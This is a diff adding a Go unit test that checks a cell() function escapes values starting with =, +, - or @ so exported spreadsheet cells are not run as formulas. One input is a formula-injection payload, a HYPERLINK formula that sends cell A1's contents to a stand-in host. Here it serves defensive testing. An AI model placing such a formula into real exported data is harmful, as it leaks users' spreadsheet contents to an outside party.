@@ -41,3 +41,18 @@ func TestFigureFileNames(t *testing.T) {
 		t.Errorf("plainMilli = %s", got)
 	}
 }
+
+func TestAProductNameNeverRunsAsAFormulaInTheSpreadsheet(t *testing.T) {
+	for typed, want := range map[string]string{
+		`=HYPERLINK("http://x/?"&A1,"Na")`: `'=HYPERLINK("http://x/?"&A1,"Na")`,
+		"+84912345678":                     "'+84912345678",
+		"-1":                               "'-1",
+		"@SUM(A1)":                         "'@SUM(A1)",
+		"Na Chi Lăng":                      "Na Chi Lăng",
+		"":                                 "",
+	} {
+		if got := cell(typed); got != want {
+			t.Errorf("cell(%q) = %q, want %q", typed, got, want)
+		}
+	}
+}
